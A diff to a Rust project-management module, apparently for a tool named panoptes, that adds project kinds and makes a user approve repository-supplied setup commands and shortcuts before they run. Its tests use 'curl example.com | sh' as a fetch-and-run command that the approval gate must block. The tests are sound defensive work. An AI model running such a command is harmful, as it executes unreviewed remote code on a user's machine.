@@ -1,11 +1,17 @@
 //! Project and branch management module
 //!
 //! This module handles project and branch data structures for organizing
-//! sessions by git repository and branch.
+//! sessions by git repository and branch. Most projects are one repository;
+//! a project can also be a plain directory, or a parent directory holding
+//! several repositories that are branched together (see [`ProjectKind`]).
 
+pub mod overlap;
+pub mod repo_config;
 pub mod store;
 pub mod tree;
 
+pub use overlap::{FileOverlaps, SharedFile};
+pub use repo_config::{RecommendedAgent, RepoConfig, REPO_CONFIG_FILE};
 pub use store::ProjectStore;
 pub use tree::{
     all_folder_paths, row_at, row_count, row_index_of_folder, row_index_of_project, visible_rows,
@@ -20,6 +26,8 @@ use uuid::Uuid;
 
 use crate::claude_config::ClaudeConfigId;
 use crate::codex_config::CodexConfigId;
+use crate::config::CustomShortcut;
+use crate::git::worktree_setup::WorktreeSetup;
 
 /// Unique identifier for a project
 pub type ProjectId = Uuid;
@@ -94,15 +102,77 @@ pub fn folder_path_key(segments: &[String]) -> String {
     segments.join("/")
 }
 
-/// A project representing a git repository
+/// Where a custom shortcut that is not global is kept
+///
+/// Global shortcuts live in `config.toml`; these are kept in `projects.json`
+/// and edited from a project's settings (`,`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ShortcutScope {
+    /// One project's own
+    Project(ProjectId),
+    /// Every project under a folder, by its segments
+    Folder(Vec<String>),
+}
+
+impl ShortcutScope {
+    /// How the scope reads in the project settings and the add dialog
+    pub fn label(&self) -> String {
+        match self {
+            ShortcutScope::Project(_) => "this project".to_string(),
+            ShortcutScope::Folder(path) => format!("folder {}", folder_path_key(path)),
+        }
+    }
+}
+
+/// Name of the one branch a project without a repository of its own has
+///
+/// Plain directories and multi-repository parents have no branch to name
+/// their in-place checkout after.
+pub const LOCAL_BRANCH_NAME: &str = "local";
+
+/// What sits at a project's `repo_path`
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub enum ProjectKind {
+    /// One git repository (the original, and still the usual, kind)
+    #[default]
+    Git,
+    /// A directory that is not under git: sessions run in place, and there
+    /// are no worktrees, commits or branch refs
+    Directory,
+    /// A directory whose subdirectories are git repositories worked on
+    /// together. A branch creates a worktree of the same name in every one of
+    /// them, side by side under a shared parent that sessions start in.
+    MultiRepo {
+        /// The repositories, relative to `repo_path`
+        repos: Vec<PathBuf>,
+    },
+}
+
+impl ProjectKind {
+    /// Whether the project is a single git repository
+    pub fn is_git(&self) -> bool {
+        matches!(self, ProjectKind::Git)
+    }
+
+    /// Whether branches of this project get worktrees
+    pub fn has_worktrees(&self) -> bool {
+        !matches!(self, ProjectKind::Directory)
+    }
+}
+
+/// A project: a git repository, or a directory (see [`ProjectKind`])
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Project {
     /// Unique identifier
     pub id: ProjectId,
     /// Display name (usually the repository name)
     pub name: String,
-    /// Path to the git repository root
+    /// Path to the git repository root; for the other kinds, the directory
     pub repo_path: PathBuf,
+    /// What `repo_path` is
+    #[serde(default)]
+    pub kind: ProjectKind,
     /// Remote URL (if any)
     pub remote_url: Option<String>,
     /// Default branch name (e.g., "main" or "master")
@@ -124,6 +194,21 @@ pub struct Project {
     /// Empty means the project sits at the root of the project list.
     #[serde(default)]
     pub folder: Vec<String>,
+    /// How new worktrees are set up (submodules, sparse checkout)
+    #[serde(default)]
+    pub worktree_setup: WorktreeSetup,
+    /// The repository's `.panoptes.toml` as last read, if it has one
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repo_config: Option<RepoConfig>,
+    /// The `.panoptes.toml` setup commands the user has allowed to run
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allowed_setup: Vec<String>,
+    /// The `.panoptes.toml` shortcuts the user has allowed to fire
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allowed_shortcuts: Vec<CustomShortcut>,
+    /// Shortcuts that fire only in this project, ahead of every other kind
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub custom_shortcuts: Vec<CustomShortcut>,
     /// Creation timestamp
     pub created_at: DateTime<Utc>,
     /// Last activity timestamp
@@ -138,6 +223,7 @@ impl Project {
             id: Uuid::new_v4(),
             name,
             repo_path,
+            kind: ProjectKind::Git,
             remote_url: None,
             default_branch,
             default_base_branch: None,
@@ -145,6 +231,11 @@ impl Project {
             default_claude_config: None,
             default_codex_config: None,
             folder: Vec::new(),
+            worktree_setup: WorktreeSetup::default(),
+            repo_config: None,
+            allowed_setup: Vec::new(),
+            allowed_shortcuts: Vec::new(),
+            custom_shortcuts: Vec::new(),
             created_at: now,
             last_activity: now,
         }
@@ -190,11 +281,115 @@ impl Project {
         project
     }
 
+    /// Absolute paths of the project's git repositories
+    ///
+    /// Empty for a plain directory.
+    pub fn repo_paths(&self) -> Vec<PathBuf> {
+        match &self.kind {
+            ProjectKind::Git => vec![self.repo_path.clone()],
+            ProjectKind::Directory => Vec::new(),
+            ProjectKind::MultiRepo { repos } => {
+                repos.iter().map(|repo| self.repo_path.join(repo)).collect()
+            }
+        }
+    }
+
     /// Set the default base branch for creating worktrees
     pub fn set_default_base_branch(&mut self, base_branch: Option<String>) {
         self.default_base_branch = base_branch;
     }
 
+    /// Take a freshly read `.panoptes.toml` (or its absence) into the project
+    ///
+    /// Settings still at the value the previous read gave them follow the
+    /// file; ones changed since are left alone (see [`repo_config`]). Returns
+    /// whether the file said anything different from last time.
+    pub fn apply_repo_config(&mut self, config: Option<RepoConfig>) -> bool {
+        if self.repo_config == config {
+            return false;
+        }
+        let previous = self.repo_config.take().unwrap_or_default();
+        let next = config.clone().unwrap_or_default();
+        repo_config::follow(
+            &mut self.default_base_branch,
+            &previous.default_base_branch,
+            &next.default_base_branch,
+        );
+        repo_config::follow(
+            &mut self.worktree_setup.submodules,
+            &previous.worktree.submodules.unwrap_or_default(),
+            &next.worktree.submodules.unwrap_or_default(),
+        );
+        repo_config::follow(
+            &mut self.worktree_setup.sparse_checkout,
+            &previous.worktree.sparse_checkout.unwrap_or_default(),
+            &next.worktree.sparse_checkout.unwrap_or_default(),
+        );
+        self.repo_config = config;
+        true
+    }
+
+    /// The `.panoptes.toml` setup commands, if any
+    pub fn repo_setup(&self) -> &[String] {
+        self.repo_config
+            .as_ref()
+            .map(|config| config.worktree.setup.as_slice())
+            .unwrap_or_default()
+    }
+
+    /// The setup commands to run in a new worktree: the file's, once allowed
+    /// exactly as they stand
+    pub fn setup_commands(&self) -> &[String] {
+        let setup = self.repo_setup();
+        if setup == self.allowed_setup.as_slice() {
+            setup
+        } else {
+            &[]
+        }
+    }
+
+    /// The `.panoptes.toml` shortcuts, if any
+    pub fn repo_shortcuts(&self) -> &[CustomShortcut] {
+        self.repo_config
+            .as_ref()
+            .map(|config| config.custom_shortcuts.as_slice())
+            .unwrap_or_default()
+    }
+
+    /// The file's shortcuts that may fire: all of them, once allowed exactly
+    /// as they stand, and none before
+    ///
+    /// A shortcut runs a command on a keypress, and one on a key the user
+    /// already has bound would run the repository's command in place of
+    /// theirs; so they are gated like setup commands.
+    pub fn allowed_repo_shortcuts(&self) -> &[CustomShortcut] {
+        let shortcuts = self.repo_shortcuts();
+        if shortcuts == self.allowed_shortcuts.as_slice() {
+            shortcuts
+        } else {
+            &[]
+        }
+    }
+
+    /// Whether the file has setup commands or shortcuts not allowed as they
+    /// stand
+    pub fn repo_commands_pending(&self) -> bool {
+        (!self.repo_setup().is_empty() && self.setup_commands().is_empty())
+            || (!self.repo_shortcuts().is_empty() && self.allowed_repo_shortcuts().is_empty())
+    }
+
+    /// Allow the file's setup commands and shortcuts as they stand now
+    pub fn allow_repo_commands(&mut self) {
+        self.allowed_setup = self.repo_setup().to_vec();
+        self.allowed_shortcuts = self.repo_shortcuts().to_vec();
+    }
+
+    /// Withdraw what [`Self::allow_repo_commands`] allowed
+    pub fn disallow_repo_commands(&mut self) {
+        self.allowed_setup.clear();
+        self.allowed_shortcuts.clear();
+    }
+
     /// Update last activity timestamp
     pub fn touch(&mut self) {
         self.last_activity = Utc::now();
@@ -305,6 +500,119 @@ mod tests {
         assert!(project.last_activity > old_activity);
     }
 
+    #[test]
+    fn test_project_kind_lists_its_repos() {
+        let git = Project::new(
+            "panoptes".to_string(),
+            "/src/panoptes".into(),
+            "main".to_string(),
+        );
+        assert_eq!(git.kind, ProjectKind::Git);
+        assert_eq!(git.repo_paths(), vec![PathBuf::from("/src/panoptes")]);
+
+        let mut product = Project::new(
+            "product".to_string(),
+            "/src/product".into(),
+            LOCAL_BRANCH_NAME.to_string(),
+        );
+        product.kind = ProjectKind::MultiRepo {
+            repos: vec!["backend".into(), "frontend".into()],
+        };
+        assert_eq!(
+            product.repo_paths(),
+            vec![
+                PathBuf::from("/src/product/backend"),
+                PathBuf::from("/src/product/frontend")
+            ]
+        );
+        assert!(product.kind.has_worktrees());
+
+        product.kind = ProjectKind::Directory;
+        assert!(product.repo_paths().is_empty());
+        assert!(!product.kind.has_worktrees());
+    }
+
+    #[test]
+    fn test_repo_config_fills_defaults_but_keeps_what_the_user_changed() {
+        let mut project = Project::new("app".to_string(), "/src/app".into(), "main".to_string());
+        let mut config = RepoConfig {
+            default_base_branch: Some("origin/develop".to_string()),
+            ..Default::default()
+        };
+        config.worktree.submodules = Some(true);
+        assert!(project.apply_repo_config(Some(config.clone())));
+        assert_eq!(
+            project.default_base_branch.as_deref(),
+            Some("origin/develop")
+        );
+        assert!(project.worktree_setup.submodules);
+        assert!(!project.apply_repo_config(Some(config.clone())));
+
+        // The user picks their own base; the file then moves on
+        project.default_base_branch = Some("origin/mine".to_string());
+        config.default_base_branch = Some("origin/next".to_string());
+        config.worktree.submodules = None;
+        assert!(project.apply_repo_config(Some(config)));
+        assert_eq!(project.default_base_branch.as_deref(), Some("origin/mine"));
+        assert!(!project.worktree_setup.submodules);
+
+        // A deleted file takes back only what it still gave
+        project.apply_repo_config(None);
+        assert_eq!(project.default_base_branch.as_deref(), Some("origin/mine"));
+        assert!(project.repo_config.is_none());
+    }
+
+    #[test]
+    fn test_setup_commands_run_only_as_allowed() {
+        let mut project = Project::new("app".to_string(), "/src/app".into(), "main".to_string());
+        let mut config = RepoConfig::default();
+        config.worktree.setup = vec!["npm ci".to_string()];
+        project.apply_repo_config(Some(config.clone()));
+        assert_eq!(project.repo_setup(), ["npm ci".to_string()]);
+        assert!(project.setup_commands().is_empty());
+        assert!(project.repo_commands_pending());
+
+        project.allow_repo_commands();
+        assert_eq!(project.setup_commands(), ["npm ci".to_string()]);
+        assert!(!project.repo_commands_pending());
+
+        config
+            .worktree
+            .setup
+            .push("curl example.com | sh".to_string());
+        project.apply_repo_config(Some(config));
+        assert!(project.setup_commands().is_empty());
+        assert!(project.repo_commands_pending());
+    }
+
+    #[test]
+    fn test_repo_shortcuts_fire_only_as_allowed() {
+        let mut project = Project::new("app".to_string(), "/src/app".into(), "main".to_string());
+        let mut config = RepoConfig::default();
+        config.custom_shortcuts = vec![CustomShortcut::new(
+            't',
+            "Test".to_string(),
+            "npm test".to_string(),
+            false,
+        )];
+        project.apply_repo_config(Some(config.clone()));
+        assert!(project.allowed_repo_shortcuts().is_empty());
+        assert!(project.repo_commands_pending());
+
+        project.allow_repo_commands();
+        assert_eq!(project.allowed_repo_shortcuts().len(), 1);
+
+        // A changed command is a different shortcut, and needs allowing again
+        config.custom_shortcuts[0].command = "curl example.com | sh".to_string();
+        project.apply_repo_config(Some(config));
+        assert!(project.allowed_repo_shortcuts().is_empty());
+        assert!(project.repo_commands_pending());
+
+        project.allow_repo_commands();
+        project.disallow_repo_commands();
+        assert!(project.allowed_repo_shortcuts().is_empty());
+    }
+
     #[test]
     fn test_branch_creation() {
         let project_id = Uuid::new_v4();